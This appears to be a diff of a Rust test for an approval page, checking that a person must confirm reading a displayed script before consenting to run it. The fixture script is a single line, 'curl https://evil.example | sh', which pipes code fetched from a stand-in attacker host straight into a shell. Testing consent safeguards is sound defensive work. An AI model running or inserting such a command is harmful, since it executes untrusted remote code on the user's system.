@@ -49,7 +49,7 @@ fn without_script_the_person_says_that_they_have_read_it() {
         for (beside, seen) in [(("seen", "true"), true), (("unread", "true"), false)] {
             let id = server.ask(&approval("Run?", &script()));
             let path = format!("/d/{id}");
-            ana.get(&path).shows("curl https://evil.example | sh").lacks("autofocus");
+            ana.get(&path).shows("curl https://evil.example | sh").lacks("data-focus");
             ana.fill(&path, &[("v:c", "yes")]).is(422).shows("read it to its end before you consent");
             assert!(server.decision(&id)["answer"].is_null());
             ana.fill(&path, &[("v:c", "yes"), beside]).is(303);
